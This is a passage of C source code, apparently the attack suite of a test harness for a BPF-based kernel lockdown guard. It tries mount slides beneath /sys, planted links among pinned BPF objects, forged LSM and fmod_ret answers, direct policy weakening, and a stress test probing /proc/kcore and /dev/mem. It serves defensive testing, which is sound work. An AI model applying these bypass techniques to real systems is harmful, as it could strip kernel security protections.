		return report_errno("move_mount_over", 1, "fsmount");
	ret = move_mount(mnt, "", AT_FDCWD, PIN_DIR, MOVE_MOUNT_F_EMPTY_PATH);
	err = errno;
	if (!ret)
		umount2(PIN_DIR, MNT_DETACH);
	close(mnt);
	snprintf(detail, sizeof(detail), "fsmount:ok move_mount:%s",
		 ret ? strerror(err) : "mounted over " PIN_DIR);
	errno = err;
	return report("move_mount_over", !refused_by_us(ret), detail);
}

#ifndef MOVE_MOUNT_BENEATH
#define MOVE_MOUNT_BENEATH 0x00000200 /* Linux 6.5 and later */
#endif

/* A tmpfs of root's own, as a mount fd: a new detached one (@attached 0)
 * or one mounted at /tmp/rt_beneath (6.12 slides only attached ones). */
static int beneath_source(int attached)
{
	int fs, mnt;

	if (attached) {
		mkdir("/tmp/rt_beneath", 0700);
		umount2("/tmp/rt_beneath", MNT_DETACH);
		if (mount("rt_beneath", "/tmp/rt_beneath", "tmpfs", 0, NULL) ||
		    mount(NULL, "/tmp/rt_beneath", NULL, MS_PRIVATE, NULL))
			return -1;
		return open_tree(AT_FDCWD, "/tmp/rt_beneath", 0);
	}
	fs = fsopen("tmpfs", FSOPEN_CLOEXEC);
	if (fs < 0 || fsconfig(fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0))
		return -1;
	mnt = fsmount(fs, FSMOUNT_CLOEXEC, 0);
	close(fs);
	return mnt;
}

/*
 * A tmpfs of root's own slid with move_mount(2)'s MOVE_MOUNT_BENEATH
 * (Linux 6.5+) beneath /sys or beneath the bpffs: it becomes a mount above
 * the bpffs that the guard did not see when it was armed. Then dropped
 * lazily through its fd (the one path that could name it while the mount
 * on top covers it): the bpffs would go with it. The slide beneath /sys is
 * not refused (7.2 makes it; 6.12 refuses one whose new parent would be
 * the namespace's root, as /sys's is in the guest); beneath the bpffs our
 * guard refuses it. Breached when a drop succeeds, the pins are gone, or,
 * on a kernel with the flag, no slide was either made or refused by us.
 */
static int attack_move_mount_beneath(void)
{
	static const char *const targets[] = { "/sys", "/sys/fs/bpf" };
	int major = 0, minor = 0, has_flag, ran = 0, bad = 0;
	char detail[320], *d = detail, self[64];
	struct utsname u;

	name_task("rt_mm_beneath");
	if (!uname(&u))
		sscanf(u.release, "%d.%d", &major, &minor);
	has_flag = major > 6 || (major == 6 && minor >= 5);
	for (size_t t = 0; t < 2; t++) {
		int moved = 0, err = 0, attached;

		for (attached = 0; attached < 2 && !moved; attached++) {
			int mnt = beneath_source(attached);

			if (mnt < 0)
				return report_errno("move_mount_beneath", 1,
						    "making a tmpfs");
			moved = !move_mount(mnt, "", AT_FDCWD, targets[t],
					    MOVE_MOUNT_F_EMPTY_PATH |
						    MOVE_MOUNT_BENEATH);
			err = errno;
			if (moved) {
				snprintf(self, sizeof(self), "/proc/self/fd/%d",
					 mnt);
				bad |= !umount2(self, MNT_DETACH) ||
				       errno != EPERM;
				d += snprintf(d, detail + sizeof(detail) - d,
					      "%s: slid, drop:%s; ", targets[t],
					      strerror(errno));
			}
			close(mnt);
			if (!moved && err != EINVAL)
				break;
		}
		ran |= moved || err == EPERM;
		bad |= !moved && err != EPERM && err != EINVAL;
		if (!moved)
			d += snprintf(d, detail + sizeof(detail) - d,
				      "%s: %s; ", targets[t], strerror(err));
	}
	umount2("/tmp/rt_beneath", MNT_DETACH);
	/* The links directory, not a pinned link: those refuse even
	 * access(2) (inode_permission). */
	bad |= access(PIN_DIR "/links", F_OK) != 0;
	snprintf(d, detail + sizeof(detail) - d, "pins:%s",
		 access(PIN_DIR "/links", F_OK) ? "gone" : "there");
	return report("move_mount_beneath", bad || (has_flag && !ran), detail);
}

/* symlink(2) among our pins: in the pin directory and in the links one.
 * Breached when either is created or fails otherwise than with EPERM. */
static int attack_plant_symlink(void)
{
	static const char *const at[] = { PIN_DIR "/" MARKER "symlink",
					  PIN_DIR "/links/planted" };
	int bad = 0;
	char detail[160], *d = detail;

	name_task("rt_symlink");
	for (size_t i = 0; i < 2; i++) {
		int ret = symlink("/sys/fs/bpf/elsewhere", at[i]);

		bad |= !refused_by_us(ret);
		d += snprintf(d, detail + sizeof(detail) - d, "%s%s:%s",
			      i ? " " : "", at[i],
			      ret ? strerror(errno) : "created");
		if (!ret)
			unlink(at[i]);
	}
	return report("plant_symlink", bad, detail);
}

/* link(2) of a pin of root's own into the pin and links directories: the
 * pinned object would sit among ours under a name of root's choosing. */
static int attack_plant_link(void)
{
	static const char *const own = "/sys/fs/bpf/rt_own";
	static const char *const at[] = { PIN_DIR "/" MARKER "link",
					  PIN_DIR "/links/lockdown_planted" };
	int map = bpf_map_create(BPF_MAP_TYPE_ARRAY, "own", 4, 8, 1, NULL);
	int bad = 0;
	char detail[160], *d = detail;

	name_task("rt_link");
	unlink(own);
	if (map < 0 || bpf_obj_pin(map, own))
		return report_errno("plant_link", 1, "pinning root's own map");
	close(map);
	for (size_t i = 0; i < 2; i++) {
		int ret = link(own, at[i]);

		bad |= !refused_by_us(ret);
		d += snprintf(d, detail + sizeof(detail) - d, "%s%s:%s",
			      i ? " " : "", at[i],
			      ret ? strerror(errno) : "linked");
		if (!ret)
			unlink(at[i]);
	}
	unlink(own);
	return report("plant_link", bad, detail);
}

/* prctl(LOCKDOWN_PRCTL_OURS) about @id: 1 "ours", 0 "not", -1 otherwise. */
static int ask_ours(__u32 id, enum lockdown_ours_kind kind)
{
	if (!prctl(LOCKDOWN_PRCTL_OURS, (unsigned long)id,
		   LOCKDOWN_PRCTL_MAGIC2, (unsigned long)kind, 0UL))
		return -1;
	return errno == LOCKDOWN_PRCTL_TAKEN ? 1 : errno == EINVAL ? 0 : -1;
}

/*
 * A forged answer to lockdownctl's question (LOCKDOWN_PRCTL_OURS): an LSM
 * program on task_prctl, or fmod_ret on security_task_prctl(), answering
 * LOCKDOWN_PRCTL_TAKEN ("ours") for root's own objects. Both must be
 * refused at load (EPERM); then the real answerer, asked about a map and a
 * program of root's own, must say "not ours", while saying "armed" (it is
 * there to ask). Breached otherwise.
 */
static int attack_forge_ours(void)
{
	const __u64 taken = (__u64)(__s64)-LOCKDOWN_PRCTL_TAKEN;
	int lsm, fmod, lsm_errno, fmod_errno, map, prog, armed, map_ours,
		prog_ours;
	struct bpf_prog_info info = { 0 };
	__u32 len = sizeof(info), map_id = 0;
	struct bpf_map_info minfo = { 0 };
	char detail[192];

	name_task("rt_forge_ours");
	lsm = load_returning("bpf_lsm_task_prctl", BPF_PROG_TYPE_LSM,
			     BPF_LSM_MAC, taken);
	lsm_errno = errno;
	if (lsm >= 0)
		bpf_link_create(lsm, 0, BPF_LSM_MAC, NULL);
	fmod = load_returning("security_task_prctl", BPF_PROG_TYPE_TRACING,
			      BPF_MODIFY_RETURN, taken);
	fmod_errno = errno;
	if (fmod >= 0)
		bpf_link_create(fmod, 0, BPF_MODIFY_RETURN, NULL);
	map = bpf_map_create(BPF_MAP_TYPE_ARRAY, "own", 4, 8, 1, NULL);
	prog = bpf_prog_load(BPF_PROG_TYPE_SOCKET_FILTER, "own", "GPL",
			     return_zero, 2, NULL);
	len = sizeof(minfo);
	if (map >= 0 && !bpf_obj_get_info_by_fd(map, &minfo, &len))
		map_id = minfo.id;
	len = sizeof(info);
	if (prog < 0 || bpf_obj_get_info_by_fd(prog, &info, &len))
		info.id = 0;
	armed = ask_ours(0, LOCKDOWN_OURS_ARMED);
	map_ours = map_id ? ask_ours(map_id, LOCKDOWN_OURS_MAP) : -1;
	prog_ours = info.id ? ask_ours(info.id, LOCKDOWN_OURS_PROG) : -1;
	snprintf(
		detail, sizeof(detail),
		"lsm:%s fmod_ret:%s armed:%d own map %u ours:%d own prog %u ours:%d",
		lsm >= 0 ? "loaded" : strerror(lsm_errno),
		fmod >= 0 ? "loaded" : strerror(fmod_errno), armed, map_id,
		map_ours, info.id, prog_ours);
	if (map >= 0)
		close(map);
	if (prog >= 0)
		close(prog);
	return report("forge_ours",
		      lsm >= 0 || lsm_errno != EPERM || fmod >= 0 ||
			      fmod_errno != EPERM || armed != 1 ||
			      map_ours != 0 || prog_ours != 0,
		      detail);
}

/* Before lockdown: root's own objects pinned in @dir under the names of
 * ours and of the marker @marker, as if they were lockdown's. */
static int plant(const char *dir, const char *marker)
{
	static const char *const maps[] = { "counters", "event_stats",
					    "events" };
	int map = bpf_map_create(BPF_MAP_TYPE_ARRAY, "fake", 4, 64, 128, NULL);
	int prog = bpf_prog_load(BPF_PROG_TYPE_SOCKET_FILTER, "fake", "GPL",
				 return_zero, 2, NULL);
	char path[256];
	int err = map < 0 || prog < 0;

	for (int i = 0; !err && i < 2; i++) {
		snprintf(path, sizeof(path), "%s/%s", dir,
			 i ? "prog_policy" : "prog_raise_level");
		err = bpf_obj_pin(prog, path);
	}
	for (size_t i = 0; !err && i < sizeof(maps) / sizeof(maps[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, maps[i]);
		err = bpf_obj_pin(map, path);
	}
	snprintf(path, sizeof(path), "%s/%s", dir, marker);
	if (!err)
		err = bpf_obj_pin(map, path);
	if (err)
		perror("attack: planting");
	return err ? 1 : 0;
}

/* After lockdown, where lockdownctl looks (a bpffs of root's own mounted
 * over the path): a generation of root's own with the exact layout of
 * ours, whose programs answer "level none, nothing refused". Only the
 * BPF side's answer to LOCKDOWN_PRCTL_OURS tells it from ours. */
static int forge(const char *dir, const char *marker)
{
	static const struct {
		const char *name;
		enum bpf_map_type type;
		__u32 key, value, entries;
	} maps[] = {
		{ "counters", BPF_MAP_TYPE_PERCPU_ARRAY, 4,
		  sizeof(struct lockdown_counters), LOCKDOWN_MAX_REASONS },
		{ "event_stats", BPF_MAP_TYPE_PERCPU_ARRAY, 4,
		  sizeof(struct lockdown_event_stats), 1 },
		{ "events", BPF_MAP_TYPE_RINGBUF, 0, 0, 4096 },
	};
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .prog_flags = BPF_F_SLEEPABLE);
	int prog = bpf_prog_load(BPF_PROG_TYPE_SYSCALL, "fake", "GPL",
				 return_zero, 2, &opts);
	char path[256];
	int err = prog < 0, map = -1;

	for (int i = 0; !err && i < 2; i++) {
		snprintf(path, sizeof(path), "%s/%s", dir,
			 i ? "prog_policy" : "prog_raise_level");
		err = bpf_obj_pin(prog, path);
	}
	for (size_t i = 0; !err && i < sizeof(maps) / sizeof(maps[0]); i++) {
		map = bpf_map_create(maps[i].type, "fake", maps[i].key,
				     maps[i].value, maps[i].entries, NULL);
		snprintf(path, sizeof(path), "%s/%s", dir, maps[i].name);
		err = map < 0 || bpf_obj_pin(map, path);
	}
	snprintf(path, sizeof(path), "%s/%s", dir, marker);
	if (!err)
		err = bpf_obj_pin(map, path);
	if (err)
		perror("attack: forging");
	return err ? 1 : 0;
}

/* The ratchet program, run with a lower level, must not lower anything. */
static int raise_to(const char *arg)
{
	__u32 args = (__u32)atoi(arg);
	LIBBPF_OPTS(bpf_test_run_opts, opts, .ctx_in = &args,
		    .ctx_size_in = sizeof(args));
	int fd = bpf_obj_get(RAISE_PIN);

	if (fd < 0 || bpf_prog_test_run_opts(fd, &opts)) {
		perror("attack: running prog_raise_level");
		return 1;
	}
	printf("%d\n", (int)opts.retval);
	return 0;
}

static int attach_returning_zero(const char *func, enum bpf_prog_type type,
				 enum bpf_attach_type attach)
{
	int prog = load_returning(func, type, attach, 0), link;

	if (prog < 0) {
		fprintf(stderr, "unrelated: loading a program on %s: %s\n",
			func, strerror(errno));
		return 1;
	}
	link = bpf_link_create(prog, 0, attach, NULL);
	if (link < 0) {
		fprintf(stderr, "unrelated: attaching a program on %s: %s\n",
			func, strerror(errno));
		close(prog);
		return 1;
	}
	close(link);
	close(prog);
	return 0;
}

/* Unrelated BPF use keeps working: load, pin, list, unpin, unlink. */
static int unrelated(void)
{
	int fd = bpf_prog_load(BPF_PROG_TYPE_SOCKET_FILTER, "unrelated", "GPL",
			       return_zero, 2, NULL);
	struct bpf_prog_info info = { 0 };
	__u32 len = sizeof(info), id = 0;
	int found = 0, map;

	if (fd < 0 || bpf_obj_get_info_by_fd(fd, &info, &len)) {
		perror("unrelated: loading a socket filter");
		return 1;
	}
	/* As bpftool prog show: walk IDs, open each, skip ENOENT. */
	while (!bpf_prog_get_next_id(id, &id)) {
		int pfd = bpf_prog_get_fd_by_id(id);

		if (pfd < 0 && errno != ENOENT) {
			perror("unrelated: listing programs");
			return 1;
		}
		if (pfd >= 0) {
			found |= id == info.id;
			close(pfd);
		}
	}
	if (!found) {
		fprintf(stderr, "unrelated: own program not listed\n");
		return 1;
	}
	if (bpf_obj_pin(fd, "/sys/fs/bpf/unrelated") ||
	    unlink("/sys/fs/bpf/unrelated")) {
		perror("unrelated: pinning and unpinning");
		return 1;
	}
	map = bpf_map_create(BPF_MAP_TYPE_ARRAY, "unrelated", 4, 8, 1, NULL);
	if (map < 0 ||
	    bpf_map_update_elem(map, &(__u32){ 0 }, &(__u64){ 1 }, 0)) {
		perror("unrelated: creating and writing a map");
		return 1;
	}
	close(map);
	close(fd);
	/* Other tools' LSM programs on hooks lockdown does not use (as
	 * systemd's RestrictFileSystems= on file_open), and tracing, keep
	 * loading and attaching. */
	if (attach_returning_zero("bpf_lsm_file_open", BPF_PROG_TYPE_LSM,
				  BPF_LSM_MAC) ||
	    attach_returning_zero("security_locked_down", BPF_PROG_TYPE_TRACING,
				  BPF_TRACE_FENTRY))
		return 1;
	puts("unrelated BPF use works");
	return 0;
}

/* Runs prog_policy with @a; returns its verdict (0 or -errno). */
static int run_policy(int fd, struct lockdown_policy_args *a)
{
	LIBBPF_OPTS(bpf_test_run_opts, opts, .ctx_in = a,
		    .ctx_size_in = sizeof(*a));

	if (bpf_prog_test_run_opts(fd, &opts))
		return -errno;
	return (int)opts.retval;
}

/* run_policy(), again while another run holds the policy. */
static int pins_policy_retry(int fd, struct lockdown_policy_args *a)
{
	int ret;

	while ((ret = run_policy(fd, a)) == -EBUSY)
		;
	return ret;
}

/* Whether the policy part of @a refuses anything: then nothing of it may
 * become weaker (the enforced level never may). */
static int policy_refuses(const struct lockdown_policy_args *a)
{
	if (a->scope_count)
		return 1;
	if (a->mode != LOCKDOWN_MODE_ENFORCE)
		return 0;
	for (int i = 0; i < LOCKDOWN_MAX_REASONS; i++) {
		if (a->actions[i] == LOCKDOWN_ACTION_DENY)
			return 1;
	}
	return a->level > LOCKDOWN_LEVEL_NONE;
}

/* prog_policy run directly, past lockdownctl's own checks, with policies
 * weaker than the one in force in each component, with a lower enforced
 * level, and with garbage: the kernel side must refuse each (or, for a
 * policy that refuses nothing, take it without lowering the enforced
 * level). */
static int attack_policy_weaken(void)
{
	struct lockdown_policy_args cur = { .op = LOCKDOWN_POLICY_READ }, a,
				    after;
	int fd = bpf_obj_get(POLICY_PIN), breached = 0, ret, refuses;
	char detail[160] = "verdicts:";
	size_t len;

	if (fd < 0 || run_policy(fd, &cur)) {
		close(fd);
		return report_errno("policy_weaken", 1, "reading the policy");
	}
	for (int kind = 0; kind < 6; kind++) {
		a = cur;
		a.op = LOCKDOWN_POLICY_APPLY;
		if (kind == 0)
			a.level = LOCKDOWN_LEVEL_NONE;
		else if (kind == 1)
			a.mode = LOCKDOWN_MODE_AUDIT;
		else if (kind == 2)
			memset(a.actions, LOCKDOWN_ACTION_ALLOW,
			       sizeof(a.actions));
		else if (kind == 3)
			a.level = 7; /* garbage */
		else if (kind == 4)
			a.actions[3] = 9; /* garbage */
		else
			a.enforced = LOCKDOWN_LEVEL_NONE;
		refuses = policy_refuses(&cur);
		ret = run_policy(fd, &a);
		after = (struct lockdown_policy_args){
			.op = LOCKDOWN_POLICY_READ
		};
		if (run_policy(fd, &after))
			breached = 1;
		if (ret != -EPERM && ret != -EINVAL && refuses && kind < 5)
			breached = 1;
		if (after.enforced < cur.enforced)
			breached = 1;
		if (refuses &&
		    (after.level != cur.level || after.mode != cur.mode ||
		     memcmp(after.actions, cur.actions, sizeof(cur.actions))))
			breached = 1;
		/* What a policy that refused nothing took: back to it. */
		if (!refuses && !ret) {
			a = cur;
			a.op = LOCKDOWN_POLICY_APPLY;
			run_policy(fd, &a);
		}
		len = strlen(detail);
		snprintf(detail + len, sizeof(detail) - len, " %d", ret);
	}
	close(fd);
	return report("policy_weaken", breached, detail);
}

/* prog_policy run directly (past lockdownctl's own check, which refuses
 * it first) with the last scope in force lowered by one level: exits 0
 * only when the run took place and refused it with -EPERM, naming a
 * weaker scope, and the scope is still at its level afterwards. */
static int lower_scope(void)
{
	struct lockdown_policy_args cur = { .op = LOCKDOWN_POLICY_READ }, a,
				    after = { .op = LOCKDOWN_POLICY_READ };
	int fd = bpf_obj_get(POLICY_PIN), ret;
	__u32 last, lowered;

	if (fd < 0 || pins_policy_retry(fd, &cur)) {
		perror("attack: reading the policy");
		return 1;
	}
	if (!cur.scope_count || cur.scope_count > LOCKDOWN_MAX_SCOPES) {
		fprintf(stderr, "attack: %u scopes in force, none to lower\n",
			cur.scope_count);
		return 1;
	}
	last = cur.scope_count - 1;
	if (cur.scopes[last].level <= LOCKDOWN_LEVEL_INTEGRITY) {
		fprintf(stderr, "attack: scope %u is at %u, nothing below\n",
			last, cur.scopes[last].level);
		return 1;
	}
	a = cur;
	a.op = LOCKDOWN_POLICY_APPLY;
	lowered = --a.scopes[last].level;
	ret = pins_policy_retry(fd, &a);
	if (pins_policy_retry(fd, &after)) {
		perror("attack: reading the policy back");
		return 1;
	}
	printf("ATTACK policy_lower_scope %s scope %u of %u (cgroup %llu) "
	       "%u -> %u: %d, weakened %#x, now %u\n",
	       ret == -EPERM && (a.weakened & LOCKDOWN_WEAKER_SCOPE) &&
			       after.scopes[last].level ==
				       cur.scopes[last].level
		       ? "blocked"
		       : "breached",
	       last, cur.scope_count,
	       (unsigned long long)cur.scopes[last].cgroup_id,
	       cur.scopes[last].level, lowered, ret, a.weakened,
	       after.scopes[last].level);
	close(fd);
	return ret != -EPERM || !(a.weakened & LOCKDOWN_WEAKER_SCOPE) ||
	       after.scopes[last].level != cur.scopes[last].level;
}

/* prog_policy run directly with LOCKDOWN_MAX_SCOPES new scopes (cgroup ids
 * no cgroup has) at @level on top of those in force: there is no room for
 * all of them, so it must refuse the whole apply with -ENOSPC and leave
 * the scopes in force as they were. Returns whether it did. */
static int overfill_once(int fd, const struct lockdown_policy_args *cur,
			 __u32 level)
{
	struct lockdown_policy_args a = *cur,
				    after = { .op = LOCKDOWN_POLICY_READ };
	int ret, same;

	a.op = LOCKDOWN_POLICY_APPLY;
	a.scope_count = LOCKDOWN_MAX_SCOPES;
	for (int i = 0; i < LOCKDOWN_MAX_SCOPES; i++) {
		a.scopes[i].cgroup_id = (1ULL << 62) + i;
		a.scopes[i].level = level;
		a.scopes[i].pad = 0;
	}
	ret = pins_policy_retry(fd, &a);
	if (pins_policy_retry(fd, &after)) {
		perror("attack: reading the policy back");
		return 0;
	}
	same = after.scope_count == cur->scope_count &&
	       !memcmp(after.scopes, cur->scopes, sizeof(cur->scopes));
	printf("ATTACK policy_overfill_scopes %s %d new scopes at %u on %u: "
	       "%d, weakened %#x, %u scopes after\n",
	       ret == -ENOSPC && same ? "blocked" : "breached",
	       LOCKDOWN_MAX_SCOPES, level, cur->scope_count, ret, a.weakened,
	       after.scope_count);
	return ret == -ENOSPC && same;
}

/* overfill_once() twice, the second time one level lower: a scope the
 * first run left behind where the hook looks (half an apply not rolled
 * back) would make the second run a weakening (-EPERM) instead. Exits 0
 * only when both runs were refused with -ENOSPC and changed nothing. */
static int overfill_scopes(void)
{
	struct lockdown_policy_args cur = { .op = LOCKDOWN_POLICY_READ };
	int fd = bpf_obj_get(POLICY_PIN), ok;

	if (fd < 0 || pins_policy_retry(fd, &cur)) {
		perror("attack: reading the policy");
		return 1;
	}
	if (!cur.scope_count || cur.scope_count >= LOCKDOWN_MAX_SCOPES) {
		fprintf(stderr, "attack: %u scopes in force, want 1 to %d\n",
			cur.scope_count, LOCKDOWN_MAX_SCOPES - 1);
		return 1;
	}
	ok = overfill_once(fd, &cur, LOCKDOWN_LEVEL_CONFIDENTIALITY);
	ok = overfill_once(fd, &cur, LOCKDOWN_LEVEL_INTEGRITY) && ok;
	close(fd);
	return !ok;
}

/*
 * The stress test of the policy's atomicity (attack --stress SECONDS):
 * prog_policy and prog_raise_level run directly (as root can, past
 * lockdownctl's lock) in loops from several processes while others probe.
 *
 * In audit mode, where policies may replace each other without end, two
 * appliers alternate A = (integrity, kcore = deny) and B =
 * (confidentiality, kcore = level), the tightening of the issue. Both
 * audit kcore and dev_mem; a torn or mixed policy such as (integrity,
 * kcore = level) lets kcore through silently, which the hook counts as
 * "allowed" (in enforce mode the same moment is a kcore allowed that both
 * policies refuse). Half way a raiser raises the enforced level to
 * integrity: from then on dev_mem must be refused, and no reading may
 * show a lower level. A checker reads the policy meanwhile.
 * Checks: the exact per-reason counters show no kcore or dev_mem allowed
 * and every probe counted; dev_mem refused once the raise returned; every
 * policy read back is one that was applied, never a mix; the enforced
 * level never reads lower than a raise returned.
 */
struct stress {
	volatile int run; /* 0 to stop */
	volatile int raised; /* the enforced level a raise returned */
	long applies, busy, refused_applies, errors;
	long raises, reads;
	long kcore, kcore_refused, devmem, devmem_checked;
	long fail_devmem, fail_lower, fail_mixed;
};

#define ADD(field) __atomic_fetch_add(&(field), 1, __ATOMIC_SEQ_CST)

static int kcore_value, dev_mem_value;

static int reason_value(const struct btf *btf, const char *name)
{
	int id = btf__find_by_name_kind(btf, "lockdown_reason", BTF_KIND_ENUM);
	const struct btf_type *t = id > 0 ? btf__type_by_id(btf, id) : NULL;
	const struct btf_enum *e = t ? btf_enum(t) : NULL;

	for (int i = 0; t && i < btf_vlen(t); i++) {
		if (!strcmp(btf__name_by_offset(btf, e[i].name_off), name))
			return e[i].val;
	}
	return -1;
}

/* The policy @which (0: A, 1: B). */
static void stress_policy(struct lockdown_policy_args *a, int which)
{
	memset(a, 0, sizeof(*a));
	a->op = LOCKDOWN_POLICY_APPLY;
	a->mode = LOCKDOWN_MODE_AUDIT;
	a->level = which ? LOCKDOWN_LEVEL_CONFIDENTIALITY
			 : LOCKDOWN_LEVEL_INTEGRITY;
	memset(a->actions, LOCKDOWN_ACTION_LEVEL, sizeof(a->actions));
	if (!which)
		a->actions[kcore_value] = LOCKDOWN_ACTION_DENY;
}

/* Whether the policy part of @got is A or B. */
static int stress_known(const struct lockdown_policy_args *got)
{
	struct lockdown_policy_args p;

	for (int w = 0; w < 2; w++) {
		stress_policy(&p, w);
		if (got->level == p.level && got->mode == p.mode &&
		    !memcmp(got->actions, p.actions, sizeof(p.actions)))
			return 1;
	}
	return 0;
}

static void stress_applier(struct stress *st, int id)
{
	int fd = bpf_obj_get(POLICY_PIN), ret;
	struct lockdown_policy_args a, want;

	for (long n = id; st->run; n++) {
		int raised = st->raised, which = (int)(n & 1);

		stress_policy(&a, which);
		ret = run_policy(fd, &a);
		if (ret == -EBUSY) {
			ADD(st->busy);
			continue;
		}
		if (ret == -EPERM) {
			ADD(st->refused_applies); /* neither refuses anything */
			continue;
		}
		if (ret) {
			ADD(st->errors);
			continue;
		}
		ADD(st->applies);
		/* Read back within the same run: exactly this policy. */
		stress_policy(&want, which);
		if (a.level != want.level || a.mode != want.mode ||
		    memcmp(a.actions, want.actions, sizeof(a.actions)))
			ADD(st->fail_mixed);
		if ((int)a.enforced < raised)
			ADD(st->fail_lower);
	}
	close(fd);
}

static void stress_checker(struct stress *st, int id)
{
	int fd = bpf_obj_get(POLICY_PIN);
	struct lockdown_policy_args a;

	(void)id;
	while (st->run) {
		int raised = st->raised;

		memset(&a, 0, sizeof(a));
		a.op = LOCKDOWN_POLICY_READ;
		if (run_policy(fd, &a)) {
			ADD(st->busy);
			continue;
		}
		ADD(st->reads);
		if ((int)a.enforced < raised)
			ADD(st->fail_lower);
		/* A or B, never a mix of them. */
		if (!stress_known(&a))
			ADD(st->fail_mixed);
	}
	close(fd);
}

/* The enforced level, from prog_raise_level. */
static int raise_read(int fd)
{
	__u32 none = LOCKDOWN_LEVEL_NONE;
	LIBBPF_OPTS(bpf_test_run_opts, opts, .ctx_in = &none,
		    .ctx_size_in = sizeof(none));

	if (bpf_prog_test_run_opts(fd, &opts))
		return -1;
	return (int)opts.retval;
}

static void stress_raiser(struct stress *st, int seconds)
{
	int fd = bpf_obj_get(RAISE_PIN);
	time_t start = time(NULL);
	__u32 want;

	while (st->run) {
		int raised = st->raised;
		LIBBPF_OPTS(bpf_test_run_opts, opts, .ctx_in = &want,
			    .ctx_size_in = sizeof(want));

		want = time(NULL) - start >= seconds / 2
			       ? LOCKDOWN_LEVEL_INTEGRITY
			       : LOCKDOWN_LEVEL_NONE;
		if (bpf_prog_test_run_opts(fd, &opts) || (int)opts.retval < 0) {
			ADD(st->errors);
			continue;
		}
		ADD(st->raises);
		if ((int)opts.retval < raised || (int)opts.retval < (int)want)
			ADD(st->fail_lower);
		else if ((int)opts.retval > raised)
			st->raised = opts.retval;
	}
	close(fd);
}

/* A prober; @sampler sleeps a few microseconds before each probe, so
 * that its wakeups preempt the other processes (with preempt=full) at
 * random points of their programs, those writing the policy included. */
static void stress_prober(struct stress *st, int sampler)
{
	struct timespec pause = { .tv_nsec = 20000 };
	int fd, err;

	if (sampler)
		prctl(PR_SET_TIMERSLACK, 1UL, 0UL, 0UL, 0UL);
	while (st->run) {
		int raised;

		if (sampler) {
			pause.tv_nsec = 5000 + rand() % 50000;
			nanosleep(&pause, NULL);
		}
		raised = st->raised;

		fd = open("/proc/kcore", O_RDONLY);
		err = fd < 0 ? errno : 0;
		if (fd >= 0)
			close(fd);
		ADD(st->kcore);
		if (err == EPERM)
			ADD(st->kcore_refused); /* the hook's strict fallback */
		fd = open("/dev/mem", O_RDONLY);
		err = fd < 0 ? errno : 0;
		if (fd >= 0)
			close(fd);
		ADD(st->devmem);
		if (raised >= LOCKDOWN_LEVEL_INTEGRITY) {
			ADD(st->devmem_checked);
			if (err != EPERM)
				ADD(st->fail_devmem);
		}
	}
}

/* Sums the per-CPU counters of @reason. */
static int stress_counters(int reason, struct lockdown_counters *sum)
{
	LIBBPF_OPTS(bpf_obj_get_opts, opts, .file_flags = BPF_F_RDONLY);
	int fd = bpf_obj_get_opts(PIN_DIR "/counters", &opts),
	    ncpu = libbpf_num_possible_cpus();
	struct lockdown_counters *v = calloc(ncpu, sizeof(*v));
	__u32 key = reason;
	int err = fd < 0 || !v || bpf_map_lookup_elem(fd, &key, v);

	memset(sum, 0, sizeof(*sum));
	for (int c = 0; !err && c < ncpu; c++) {
		sum->denied += v[c].denied;
		sum->audited += v[c].audited;
		sum->allowed += v[c].allowed;
	}
	free(v);
	if (fd >= 0)
		close(fd);
	return err ? -1 : 0;
}

static int stress_result(int ok, const char *what)
{
	printf("STRESS %s %s\n", ok ? "ok" : "FAIL", what);
	return !ok;
}

static int stress(int seconds)
{
	struct lockdown_counters k0, k1, d0, d1;
	struct lockdown_policy_args a;
	struct btf *btf = btf__load_vmlinux_btf();
	struct stress *st;
	pid_t pids[16];
	int n = 0, fd, fails = 0;
	char what[256];

	kcore_value = btf ? reason_value(btf, "LOCKDOWN_KCORE") : -1;
	dev_mem_value = btf ? reason_value(btf, "LOCKDOWN_DEV_MEM") : -1;
	btf__free(btf);
	if (kcore_value < 0 || dev_mem_value < 0 ||
	    kcore_value >= LOCKDOWN_MAX_REASONS) {
		puts("STRESS FAIL no lockdown_reason values in the kernel's BTF");
		return 1;
	}
	st = mmap(NULL, sizeof(*st), PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	fd = bpf_obj_get(POLICY_PIN);
	stress_policy(&a, 0);
	if (st == MAP_FAILED || fd < 0 || pins_policy_retry(fd, &a) ||
	    stress_counters(kcore_value, &k0) ||
	    stress_counters(dev_mem_value, &d0)) {
		printf("STRESS FAIL cannot set up: %s\n", strerror(errno));
		return 1;
	}
	close(fd);
	fd = bpf_obj_get(RAISE_PIN);
	st->raised = fd < 0 ? 0 : raise_read(fd);
	close(fd);
	st->run = 1;
	for (int i = 0; i < 9; i++) {
		pid_t pid = fork();

		if (pid == 0) {
			if (i < 2)
				stress_applier(st, i);
			else if (i == 2)
				stress_raiser(st, seconds);
			else if (i == 3)
				stress_checker(st, i);
			else
				stress_prober(st, i >= 6);
			_exit(0);
		}
		if (pid > 0)
			pids[n++] = pid;
	}
	sleep(seconds);
	st->run = 0;
	for (int i = 0; i < n; i++)
		waitpid(pids[i], NULL, 0);
	if (stress_counters(kcore_value, &k1) ||
	    stress_counters(dev_mem_value, &d1)) {
		puts("STRESS FAIL cannot read the counters");
		return 1;
	}
	printf("# stress: %ld applies (%ld busy, %ld refused as weaker, %ld errors), %ld raises, %ld reads, %ld kcore probes (%ld refused), %ld dev_mem probes (%ld after the raise)\n",
	       st->applies, st->busy, st->refused_applies, st->errors,
	       st->raises, st->reads, st->kcore, st->kcore_refused, st->devmem,
	       st->devmem_checked);
	printf("# stress: kcore counters +%llu denied +%llu audited +%llu allowed; dev_mem +%llu denied +%llu audited +%llu allowed\n",
	       k1.denied - k0.denied, k1.audited - k0.audited,
	       k1.allowed - k0.allowed, d1.denied - d0.denied,
	       d1.audited - d0.audited, d1.allowed - d0.allowed);
	snprintf(
		what, sizeof(what),
		"it ran: %ld applies, %ld raises, %ld reads, %ld kcore and %ld dev_mem probes, %ld of them after the raise",
		st->applies, st->raises, st->reads, st->kcore, st->devmem,
		st->devmem_checked);
	fails += stress_result(st->applies >= 100 && st->raises >= 100 &&
				       st->reads >= 100 && st->kcore >= 100 &&
				       st->devmem_checked >= 10 &&
				       !st->refused_applies && !st->errors,
			       what);
	snprintf(
		what, sizeof(what),
		"kcore never allowed silently by policies that both audit it (+%llu allowed)",
		k1.allowed - k0.allowed);
